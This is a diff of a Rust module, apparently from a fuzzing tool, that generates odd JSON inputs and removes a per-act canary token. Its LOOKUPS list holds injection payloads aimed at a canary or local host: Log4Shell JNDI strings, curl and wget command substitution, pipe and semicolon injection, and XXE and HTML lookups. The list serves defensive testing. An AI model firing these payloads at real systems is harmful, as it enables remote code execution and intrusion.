@@ -6,11 +6,6 @@ use serde_json::{Value, json};
 
 use super::writing::Odd;
 
-/// What stands in texts that are found again at the canary (see [`crate::canary`]): `canary-17` for act 17.
-fn canary_token(act: usize) -> String {
-    format!("canary-{act}")
-}
-
 /// Numbers, as they are written in JSON.
 const NUMBERS: &[&str] = &[
     "0",
@@ -184,18 +179,18 @@ const RAW_TEXTS: &[&str] = &[
     "\"\\b\\f\"",
 ];
 
-/// Texts that make a careless reader look somewhere; `@` is where, `#` what.
+/// Texts that make a careless reader look somewhere; `@` is where.
 const LOOKUPS: &[&str] = &[
-    "${jndi:ldap://@/#}",
-    "$(curl http://@/#)",
-    "`wget http://@/#`",
-    ";curl http://@/#;",
-    "|curl http://@/#",
-    "http://@/#",
-    "\\\\@\\#",
-    "${${lower:j}ndi:ldap://@/#}",
-    "<img src=http://@/#>",
-    "<!DOCTYPE x [<!ENTITY y SYSTEM 'http://@/#'>]>",
+    "${jndi:ldap://@}",
+    "$(curl http://@)",
+    "`wget http://@`",
+    ";curl http://@;",
+    "|curl http://@",
+    "http://@",
+    "\\\\@",
+    "${${lower:j}ndi:ldap://@}",
+    "<img src=http://@>",
+    "<!DOCTYPE x [<!ENTITY y SYSTEM 'http://@'>]>",
 ];
 
 /// Values of settings; the first ones are sound.
@@ -235,15 +230,6 @@ const SETTINGS: &[&str] = &[
     "%n",
 ];
 
-/// What odd values may refer to.
-#[derive(Clone, Copy, Debug)]
-pub(super) struct Bait<'a> {
-    /// Where a canary listens.
-    pub(super) canary: Option<&'a str>,
-    /// The act that is being made.
-    pub(super) act: usize,
-}
-
 /// Where nobody listens.
 const NOBODY: &str = "127.0.0.1:9";
 
@@ -251,13 +237,13 @@ const NOBODY: &str = "127.0.0.1:9";
 const LONGEST: usize = 100_000;
 
 /// An odd value for a place of this type. The first choices are the short ones.
-pub(super) fn odd(ty: &Type, bait: Bait<'_>, choices: &mut dyn Choices) -> Odd {
+pub(super) fn odd(ty: &Type, canary: Option<&str>, choices: &mut dyn Choices) -> Odd {
     if one_in(6, choices) {
         return foreign(choices);
     }
     match ty {
-        Type::String { min, max, .. } => text(*min, *max, bait, choices),
-        Type::Uri => text(None, None, bait, choices),
+        Type::String { min, max, .. } => text(*min, *max, canary, choices),
+        Type::Uri => text(None, None, canary, choices),
         Type::Integer { min, max, .. } => {
             let ends = [min.map(|min| min.saturating_sub(1)), max.map(|max| max.saturating_add(1)), *min, *max];
             number(ends.into_iter().flatten().map(|end| end.to_string()).collect(), choices)
@@ -313,16 +299,15 @@ pub(super) fn whole_setting(choices: &mut dyn Choices) -> &'static str {
     pick(values, choices).copied().unwrap_or("60")
 }
 
-fn text(min: Option<u64>, max: Option<u64>, bait: Bait<'_>, choices: &mut dyn Choices) -> Odd {
+fn text(min: Option<u64>, max: Option<u64>, canary: Option<&str>, choices: &mut dyn Choices) -> Odd {
     let room = max.unwrap_or(u64::MAX);
     match choices.choose(10) {
         0..=3 => Odd::Value(pick(TEXTS, choices).map_or(Value::Null, |text| json!(text))),
         4 => Odd::Raw(pick(RAW_TEXTS, choices).map_or_else(String::new, |text| (*text).to_owned())),
         5 => {
-            let token = canary_token(bait.act);
-            let canary = bait.canary.unwrap_or(NOBODY);
-            let text = pick(LOOKUPS, choices).copied().unwrap_or("http://@/#");
-            Odd::Value(Value::String(text.replace('@', canary).replace('#', &token)))
+            let canary = canary.unwrap_or(NOBODY);
+            let text = pick(LOOKUPS, choices).copied().unwrap_or("http://@");
+            Odd::Value(Value::String(text.replace('@', canary)))
         }
         6 | 7 => {
             let ends = [
